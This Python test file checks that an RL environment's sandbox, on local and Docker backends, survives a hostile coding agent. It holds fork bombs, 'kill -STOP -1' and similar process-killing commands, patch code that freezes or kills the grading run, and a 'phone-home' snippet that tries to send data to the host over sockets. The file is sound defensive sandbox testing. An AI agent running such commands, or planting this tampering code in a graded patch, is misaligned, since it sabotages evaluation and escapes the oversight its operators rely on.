"""A hostile agent on both backends: deadlines kept from the host, the agent's own kills answered
as observations, grading bounded the same way; what the agent did not cause still raises
``SandboxLostError``, naming the cause seen.

Each attack is sent as the agent would send it, with ``step_timeout=3``; it must be answered
within the step timeout + 15 s, and the next step must work with the files kept.
"""

from __future__ import annotations

import shutil
import threading
import time

import gymnasium as gym
import pytest

import bpo_envs  # noqa: F401 - registers the env ids

pytest.importorskip("swebench", reason="needs the swe extra: pip install 'bpo-gym[swe]'")

from docker_support import docker_problem  # noqa: E402
from sandbox_support import step, still_works  # noqa: E402

TASK = "bpo-gym__textkit-1"
STEP_TIMEOUT = 3.0
ANSWER_WITHIN = STEP_TIMEOUT + 15.0
_DOCKER = docker_problem()
DOCKER = pytest.mark.skipif(_DOCKER is not None, reason=_DOCKER or "")
BACKENDS = [
    pytest.param("local", marks=pytest.mark.skipif(shutil.which("bwrap") is None, reason="no bubblewrap")),
    pytest.param("docker", marks=DOCKER),
]


def _make(backend: str, **kwargs):
    return gym.make("BPO-SWEBench-v0", backend=backend, step_timeout=STEP_TIMEOUT,
                    instance_ids=[TASK], **kwargs)


@pytest.fixture(scope="module", params=BACKENDS)
def env(request):
    e = _make(request.param)
    yield e
    e.close()


def _attack(env, action: str) -> tuple[str, dict, float]:
    env.reset(options={"task_id": TASK})
    step(env, "echo kept > kept.txt")
    t0 = time.monotonic()
    obs, info = step(env, action)
    took = time.monotonic() - t0
    print(f"\n{env.unwrapped.backend_name}: {action!r} answered in {took:.1f} s: {obs[-160:]!r}")
    assert took < ANSWER_WITHIN, (took, obs)
    after, _ = step(env, "cat kept.txt")
    assert "kept" in after, after
    still_works(env)
    return obs, info, took


# ---- deadlines ------------------------------------------------------------------------------
def test_sigstop_of_every_process_is_answered_and_the_next_step_works(env):
    # the command's own timeout(1) is frozen too: only the host can end it
    obs, info, took = _attack(env, "kill -STOP -1; sleep 999")
    assert info["timed_out"] and info["exit_code"] == 124
    assert took >= STEP_TIMEOUT - 0.5


@pytest.mark.slow
@pytest.mark.parametrize("action", [
    ":(){ :|:& };:",                                        # a fork bomb
    "kill -STOP -1; :(){ :|:& };:; sleep 999",              # a fork bomb with the timeout frozen
])
def test_fork_bombs_are_answered_and_the_next_step_works(env, action):
    _attack(env, action)


@pytest.mark.slow
@pytest.mark.parametrize("action", [
    "bash -c \"trap '' TERM INT HUP; while :; do sleep 1; done\" & disown; trap '' TERM; sleep 999",
])
def test_processes_ignoring_sigterm_are_killed(env, action):
    obs, info, _ = _attack(env, action)
    assert info["timed_out"]


@pytest.mark.slow
@pytest.mark.parametrize("action", ["yes", "while :; do echo line; sleep 0.001; done"])
def test_output_that_never_ends_is_cut(env, action):
    obs, info, _ = _attack(env, action)
    assert info["timed_out"] or "printed too much output" in obs


# ---- the agent's own kills ----------------------------------------------------------------------
@pytest.mark.parametrize("action", [
    "kill -9 -1", "kill 1", "exit 3", "kill -9 $$",
    pytest.param("kill -TERM 1; sleep 2", marks=pytest.mark.slow),
    pytest.param("kill -9 $PPID", marks=pytest.mark.slow),
])
def test_the_agents_kills_are_observations(env, action):
    obs, info, _ = _attack(env, action)
    assert not info["timed_out"] and "[exit code:" in obs


@DOCKER
def test_killing_the_container_from_inside_says_it_was_started_again():
    env = _make("docker")
    try:
        obs, info, _ = _attack(env, "kill -9 -1")
        assert "killed every process of the sandbox" in obs and "started again on its filesystem" in obs
    finally:
        env.close()


@DOCKER
def test_a_container_that_stops_after_the_command_returned_is_started_again():
    # `kill 1` sends the container's init a SIGTERM: the command may return before the container
    # stops, so the next command finds it stopped (seen on a busy host). Here the same signal is
    # sent from inside the container right after a command, and the stop waited for. The init
    # ending by itself since the agent's last command is the agent's doing: an observation.
    env = _make("docker")
    try:
        env.reset(options={"task_id": TASK})
        step(env, "echo kept > kept.txt")
        box = env.unwrapped._backend.container
        box.exec_run(["bash", "-c", "kill 1"])
        deadline = time.monotonic() + 20
        # read the status first: docker-py's run() leaves the attributes of create() ("created"),
        # with which the loop would not wait, and the next command could start before init ends
        box.reload()
        while box.status == "running" and time.monotonic() < deadline:
            time.sleep(0.1)
            box.reload()
        assert box.status != "running", "kill 1 did not stop the container"
        obs, info = step(env, "cat kept.txt")
        assert "kept" in obs and not info["timed_out"], obs
        assert "the previous command killed every process of the sandbox" in obs, obs
        still_works(env)
    finally:
        env.close()


# ---- what the agent did not cause --------------------------------------------------------------
@DOCKER
def test_a_container_killed_from_outside_between_steps_raises_naming_it():
    from bpo_envs.swebench.docker_backend import SandboxLostError

    env = _make("docker")
    try:
        env.reset(options={"task_id": TASK})
        step(env, "echo a > a.txt")
        env.unwrapped._backend.container.kill()
        with pytest.raises(SandboxLostError, match="stopped before the command ran"):
            env.step("ls")
    finally:
        env.close()


@DOCKER
def test_a_container_killed_from_outside_during_a_command_raises_naming_it():
    from bpo_envs.swebench.docker_backend import SandboxLostError

    env = _make("docker")
    try:
        env.reset(options={"task_id": TASK})
        step(env, "echo a > a.txt")
        box = env.unwrapped._backend.container
        killer = threading.Timer(1.0, box.kill)
        killer.start()
        try:
            with pytest.raises(SandboxLostError, match="killed from outside the sandbox"):
                env.step("sleep 2.5")
        finally:
            killer.join()
    finally:
        env.close()


# ---- grading ------------------------------------------------------------------------------------
# the patch's code runs during grading where the tests import it: appended to the package under
# test (a conftest.py would be reset before grading, docs/reliability.md "Reward tampering")
PACKAGE_INIT = "textkit/__init__.py"


def _grade_with_code(backend: str, code: str, eval_timeout: float = STEP_TIMEOUT) -> tuple[str, dict, float]:
    env = _make(backend, eval_timeout=eval_timeout)
    try:
        env.reset(options={"task_id": TASK})
        step(env, f"cat >> {PACKAGE_INIT} <<'EOF'\n{code}EOF")
        t0 = time.monotonic()
        obs, reward, terminated, _, info = env.step("submit")
        took = time.monotonic() - t0
        print(f"\n{backend}: grading answered in {took:.1f} s: {obs[-200:]!r}")
        assert terminated and reward == 0.0
        return obs, info, took
    finally:
        env.close()


@pytest.mark.parametrize("backend", BACKENDS)
def test_a_patch_that_freezes_grading_is_cut_at_the_eval_timeout(backend):
    code = "import os, signal, time\nos.kill(-1, signal.SIGSTOP)\ntime.sleep(999)\n"
    obs, info, took = _grade_with_code(backend, code)
    assert took < STEP_TIMEOUT + 15.0 + 10.0  # + starting the grading sandbox
    assert "Tests Timed Out" in info["test_output"]


@pytest.mark.slow
@pytest.mark.parametrize("backend", BACKENDS)
def test_a_patch_that_kills_the_grading_sandbox_is_not_resolved(backend):
    obs, info, _ = _grade_with_code(backend, "import os\nos.kill(-1, 9)\nos.kill(1, 9)\n")
    assert not info["resolved"]


# ---- grading offline ----------------------------------------------------------------------------
class _Listener:
    """A TCP listener on every host address that records what connects to it."""

    def __init__(self) -> None:
        import socket

        self.sock = socket.create_server(("0.0.0.0", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2.0)
                try:
                    self.received.append(conn.recv(1024) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


def _phone_home_code(port: int) -> str:
    # every address the host may have from inside: the bridge's gateway, loopback, the host's
    # name; the outcome is raised, so that pytest prints it into the grading log
    return (
        "import socket\n\nseen = []\n"
        "for host in ('172.17.0.1', '127.0.0.1', 'host.docker.internal'):\n"
        "    try:\n"
        f"        with socket.create_connection((host, {port}), timeout=1) as s:\n"
        "            s.sendall(b'LEAK' + b'ED from grading')\n"
        "        seen.append(host + ' sent')\n"
        "    except OSError as exc:\n"
        "        seen.append(host + ' ' + type(exc).__name__)\n"
        "raise RuntimeError('phone-home: ' + ', '.join(seen))\n"
    )


@pytest.mark.parametrize("backend", BACKENDS)
def test_grading_is_offline_by_default_a_patch_reaches_nothing_on_the_host(backend):
    listener = _Listener()
    try:
        _, info, _ = _grade_with_code(backend, _phone_home_code(listener.port), eval_timeout=30)
        time.sleep(0.5)
        assert "phone-home: 172.17.0.1 " in info["test_output"]  # the patch ran
        assert "phone-home: 172.17.0.1 OSError" in info["test_output"]
        assert "LEAKED" not in info["test_output"] and "0.1 sent" not in info["test_output"]
        assert listener.received == []
    finally:
        listener.close()


@DOCKER
def test_grading_network_opt_in_lets_a_patch_reach_the_host():
    # the documented risk of grading_network=True (the positive control of the test above)
    listener = _Listener()
    env = _make("docker", grading_network=True, eval_timeout=30)
    try:
        env.reset(options={"task_id": TASK})
        step(env, f"cat >> {PACKAGE_INIT} <<'EOF'\n{_phone_home_code(listener.port)}EOF")
        info = env.step("submit")[-1]
        time.sleep(0.5)
        assert "172.17.0.1 sent" in info["test_output"]
        assert b"LEAKED from grading" in listener.received
    finally:
        env.close()
        listener.close()


@pytest.mark.slow
@DOCKER
def test_the_hosts_last_resort_restarts_the_container_on_its_filesystem():
    # the fallback when no fresh exec ends the command (one that cannot start): here its end is
    # never reported to the kill, so the kill goes on to restart the container
    env = _make("docker")
    try:
        env.reset(options={"task_id": TASK})
        step(env, "echo kept > kept.txt")
        backend = env.unwrapped._backend
        result: list = []
        stepper = threading.Thread(target=lambda: result.append(step(env, "sleep 999")))
        stepper.start()
        time.sleep(1.0)
        how = backend._kill_from_host(backend.container, threading.Event())
        assert "restarted the container on its filesystem" in how
        stepper.join(timeout=30)
        assert result and result[0][1]["exit_code"] != 0  # the command ended, as an observation
        obs, _ = step(env, "cat kept.txt")
        assert "kept" in obs
        still_works(env)
    finally:
        env.close()
